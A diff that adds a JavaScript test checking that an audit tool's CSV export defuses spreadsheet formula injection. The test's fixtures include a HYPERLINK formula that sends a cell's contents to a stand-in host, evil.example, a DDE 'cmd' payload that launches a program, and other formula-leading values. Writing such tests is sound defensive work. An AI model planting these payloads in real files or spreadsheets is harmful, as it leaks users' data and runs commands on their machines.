@@ -179,6 +179,21 @@ describe('audit', () => {
       assert.ok(cells.includes(kept), kept);
   });
 
+  test('export as CSV has nothing to compute for a spreadsheet that parts cells at semicolons or tabs', async () => {
+    const at = Date.UTC(2025, 8, 1);
+    for (const userAgent of [
+      'Mozilla/5.0 (X11;=HYPERLINK("https://evil.example"&A1);)',
+      "a; =cmd|' /C calc'!A0;",
+      'b;+1;-1;@SUM(A1)',
+      'c;\t=1+1',
+    ])
+      await write({ at, userAgent, client: undefined });
+    const span = ['--from', '2025-09-01', '--to', '2025-09-02'];
+    const { stdout } = await run('export', '--format', 'csv', ...span, ...WHY);
+    assert.match(stdout, /HYPERLINK/);
+    for (const cell of stdout.split(/[;\t\r\n]/)) assert.doesNotMatch(cell, /^\s*[=+\-@]/);
+  });
+
   test('export makes a file for its owner alone, and never overwrites one', async (t) => {
     const folder = await mkdtemp(join(tmpdir(), 'audit-'));
     t.after(() => rm(folder, { recursive: true }));
